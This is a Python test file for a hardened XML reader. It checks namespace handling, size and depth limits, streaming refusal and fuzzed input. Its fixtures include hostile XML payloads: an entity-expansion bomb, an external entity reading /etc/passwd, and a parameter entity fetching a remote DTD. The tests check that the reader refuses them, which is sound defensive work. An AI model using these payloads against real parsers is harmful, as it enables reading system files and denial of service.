# SPDX-FileCopyrightText: 2026 Veilleuse contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""XML from strangers."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from veilleuse.domain.plain_xml import (
    ATTRIBUTES,
    DEPTH,
    TEXT_CHARACTERS,
    TOKEN_BYTES,
    PlainXml,
    XmlRefusedError,
    read_xml,
)

BOMB = b"""<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><a>&d;</a>"""
EXTERNAL = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
PARAMETER = b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://192.0.2.1/x.dtd"> %b;]><a/>'


class Told:
    def __init__(self) -> None:
        self.events: list[tuple[object, ...]] = []

    def start(self, name, attributes) -> None:
        self.events.append(("start", name, dict(attributes)))

    def end(self, name, text) -> None:
        self.events.append(("end", name, text))


def test_elements_are_told_by_their_local_names_with_their_own_text() -> None:
    told = Told()
    read_xml('<x:a xmlns:x="urn:x" x:k="é">un<b/> deux &amp; trois</x:a>'.encode(), told)
    assert told.events == [
        ("start", "a", {"k": "é"}),
        ("start", "b", {}),
        ("end", "b", ""),
        ("end", "a", "un deux & trois"),
    ]


@pytest.mark.parametrize("data", [BOMB, EXTERNAL, PARAMETER])
def test_entities_are_refused_as_hostile(data) -> None:
    told = Told()
    with pytest.raises(XmlRefusedError) as refused:
        read_xml(data, told)
    assert refused.value.hostile
    assert told.events == []


def test_a_document_type_that_is_only_named_is_allowed_and_never_fetched() -> None:
    told = Told()
    read_xml(b'<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd"><a/>', told)
    assert len(told.events) == 2


def test_nesting_and_attributes_are_bounded() -> None:
    read_xml(b"<a>" * DEPTH + b"</a>" * DEPTH, Told())
    wide = " ".join(f'k{number}=""' for number in range(ATTRIBUTES + 1))
    for data in (b"<a>" * (DEPTH + 1), f"<a {wide}/>".encode()):
        with pytest.raises(XmlRefusedError) as refused:
            read_xml(data, Told())
        assert refused.value.hostile


def _feed_on(parser: PlainXml) -> None:
    for _ in range(2 * TOKEN_BYTES // 65536):
        parser.feed(b"x" * 65536)


@pytest.mark.parametrize("start", [b"<a k='", b"<!--", b"<"])
def test_a_tag_that_does_not_end_is_not_waited_for(start) -> None:
    parser = PlainXml(Told())
    parser.feed(start)
    with pytest.raises(XmlRefusedError) as refused:
        _feed_on(parser)
    assert refused.value.hostile


def test_long_texts_are_cut() -> None:
    told = Told()
    long = "x" * (TEXT_CHARACTERS + 5)
    read_xml(f'<a k="{long}">{long}<b/>{long}</a>'.encode(), told)
    assert len(told.events[0][2]["k"]) == TEXT_CHARACTERS
    assert len(told.events[-1][2]) == TEXT_CHARACTERS


@pytest.mark.parametrize(
    "data", [b"", b"<a", b"<a></b>", b"\xff", b'<?xml version="1.0" encoding="x"?><a/>']
)
def test_what_is_no_whole_document_is_refused_without_being_called_hostile(data) -> None:
    with pytest.raises(XmlRefusedError) as refused:
        read_xml(data, Told())
    assert not refused.value.hostile


@given(st.binary(max_size=300), st.integers(1, 20))
def test_any_bytes_in_any_pieces_are_read_or_refused(data, size) -> None:
    told = Told()
    parser = PlainXml(told)
    try:
        for at in range(0, len(data), size):
            parser.feed(data[at : at + size])
        parser.close()
    except XmlRefusedError:
        return
    assert told.events[-1][0] == "end"
